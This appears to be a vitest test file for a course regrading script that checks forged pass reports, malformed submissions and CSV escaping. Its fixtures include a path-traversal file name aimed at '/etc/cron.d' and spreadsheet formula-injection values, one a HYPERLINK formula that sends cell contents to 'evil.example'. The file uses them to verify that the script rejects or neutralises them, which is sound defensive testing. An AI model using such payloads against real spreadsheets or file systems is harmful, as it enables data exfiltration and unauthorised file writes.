import { spawnSync } from 'node:child_process';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readWorkingCopy } from '../../../scripts/lib/working-copy.ts';
import { REPO, tempDir } from './helpers.ts';

const reported = (status: 'pass' | 'fail') => ({ version: 1, exercise: 'config', status, tests: [], durationMs: 1 });
const submission = (learner: string, exercises: Record<string, unknown>, courseId = 'ops-101') =>
  JSON.stringify({ format: 'twelve-factor-lab/submission', version: 1, courseId, learner, exportedAt: '2026-11-21T10:00:00Z', exercises });

describe('npm run regrade', () => {
  let dir: string;
  let run: ReturnType<typeof spawnSync>;
  let rows: Record<string, string>[];
  beforeAll(() => {
    dir = tempDir('regrade');
    const solution = readWorkingCopy(path.join(REPO, 'exercises/config/solution'));
    const starter = readWorkingCopy(path.join(REPO, 'exercises/config/starter'));
    writeFileSync(path.join(dir, 'honest.json'), submission('Ada', { config: { files: solution, result: reported('pass') } }));
    writeFileSync(path.join(dir, 'forged.json'), submission('Mallory, "the forger"', { config: { files: starter, result: reported('pass') } }));
    writeFileSync(path.join(dir, 'no-report.json'), submission('Bo', { config: { files: starter } }));
    writeFileSync(path.join(dir, 'broken.json'), '{ "format": "twelve-factor-lab/submission", ');
    writeFileSync(path.join(dir, 'traversal.json'), submission('Eve', { config: { files: { '../../etc/cron.d/x': 'boom' } } }));
    writeFileSync(path.join(dir, 'clash.json'), submission('Cy', { config: { files: { 'lib': 'x', 'lib/a.js': 'y' } } }));
    // Learner-controlled text a spreadsheet would run as a formula: name, course, exercise id and file name.
    writeFileSync(path.join(dir, '=1+2.json'), submission('=HYPERLINK("http://evil.example/?"&A1,"open")', { '-x': { files: {} } }, '+1'));
    writeFileSync(path.join(dir, 'tab.json'), submission('@SUM(A1)', { '-y': { files: {} } }, '\t-2'));
    const files = ['honest.json', 'forged.json', 'no-report.json', 'broken.json', 'traversal.json', 'clash.json', 'missing.json', '=1+2.json', 'tab.json']
      .map((f) => path.join(dir, f));
    run = spawnSync(process.execPath, ['scripts/regrade.ts', ...files, '--csv', path.join(dir, 'grades.csv')], { cwd: REPO, encoding: 'utf8' });
    const [header, ...lines] = readFileSync(path.join(dir, 'grades.csv'), 'utf8').trim().split('\n');
    const columns = header!.split(',');
    rows = lines.map((line) => {
      const cells = [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'));
      return Object.fromEntries(columns.map((c, i) => [c, cells[i] ?? '']));
    });
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('writes one row per learner × exercise, from a fresh grade', () => {
    expect(rows.map((r) => [r.file, r.learner, r.exercise, r.status])).toEqual([
      ['honest.json', 'Ada', 'config', 'pass'],
      ['forged.json', 'Mallory, "the forger"', 'config', 'fail'],
      ['no-report.json', 'Bo', 'config', 'fail'],
      ["'=1+2.json", `'=HYPERLINK("http://evil.example/?"&A1,"open")`, "'-x", 'error'],
      ['tab.json', "'@SUM(A1)", "'-y", 'error'],
    ]);
  });

  it('writes learner text that a spreadsheet would run as a formula as text (a quote in front)', () => {
    expect(rows.map((r) => r.course)).toEqual(['ops-101', 'ops-101', 'ops-101', "'+1", "'\t-2"]);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('counts passed and total tests and flags self-reports that disagree', () => {
    const [honest, forged, noReport] = rows;
    expect(honest).toMatchObject({ passed: '5', total: '5', reported_status: 'pass', mismatch: 'no' });
    expect(forged).toMatchObject({ passed: '0', total: '5', reported_status: 'pass', mismatch: 'yes' });
    expect(noReport).toMatchObject({ reported_status: '', mismatch: '' });
  });

  it('reports malformed submissions by file, skips them, and still finishes the batch', () => {
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(/broken\.json: skipped — not JSON/);
    expect(run.stderr).toContain('traversal.json: skipped — exercises.config.files: file path "../../etc/cron.d/x" has an empty, "." or ".." segment');
    expect(run.stderr).toContain('clash.json: skipped — exercises.config.files: "lib" is a file and also a folder (of "lib/a.js")');
    expect(run.stderr).toMatch(/missing\.json: skipped — cannot read it \(ENOENT\)/);
    expect(run.stderr).toMatch(/5 row\(s\) written .* 1 mismatch\(es\); 4 file\(s\) skipped/);
  });
});
